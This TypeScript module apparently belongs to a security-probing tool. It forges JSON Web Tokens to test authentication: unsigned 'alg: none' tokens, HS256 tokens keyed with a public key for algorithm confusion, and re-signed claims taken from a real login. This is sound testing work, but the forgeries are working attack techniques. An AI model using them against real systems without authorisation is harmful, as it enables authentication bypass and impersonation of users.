// The auth probes' forged tokens (alg none, algorithm confusion, re-signed claims of a real login), built from a real token's claims.
import { SignJWT, decodeJwt, decodeProtectedHeader, type JWTPayload } from 'jose';

const b64url = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

/** The algorithm a token's header names ('HS256', 'RS256' …), or undefined when it has none. */
export function algOf(token: string): string | undefined {
  try {
    const alg = decodeProtectedHeader(token).alg;
    return typeof alg === 'string' ? alg : undefined;
  } catch {
    return undefined;
  }
}

/** RS*, PS*, ES*, EdDSA: the target verifies with a public key, so an HS256 token keyed with that key is a real probe. */
export function isAsymmetric(alg: string | undefined): boolean {
  return !!alg && /^(RS|PS|ES)\d+$|^EdDSA$/.test(alg);
}

/** An unsigned token (`alg: none`, empty signature) carrying the claims: a verifier that honours the header accepts it. */
export function unsignedToken(claims: JWTPayload): string {
  return `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.`;
}

/** HS256 over the claims with `key` (a secret, or for algorithm confusion the verification key's PEM text) as the HMAC secret. */
export function hs256(claims: JWTPayload, key: string): Promise<string> {
  return new SignJWT({ ...claims }).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(new TextEncoder().encode(key));
}

/** A real login's claims with a fresh id and the given lifetime (seconds since the epoch). */
export function reclaim(token: string, iat: number, exp: number, jti = `flowgate-probe-${iat}-${Math.random().toString(36).slice(2, 10)}`): JWTPayload {
  return { ...decodeJwt(token), iat, exp, jti };
}

/** Whether the alg-confusion probe means anything for this target, and why not when it does not. */
export function algConfusionApplies(alg: string | undefined, publicKey: string | undefined): { applies: true } | { applies: false; why: string } {
  if (!isAsymmetric(alg)) return { applies: false, why: `not meaningful for ${alg ?? 'unknown-algorithm'} (symmetric) targets: there is no public verification key to confuse with an HMAC secret` };
  if (!publicKey) return { applies: false, why: `the target signs ${alg} but FLOWGATE_JWT_PUBLIC_KEY_FILE is not set: algorithm confusion was not probed` };
  return { applies: true };
}
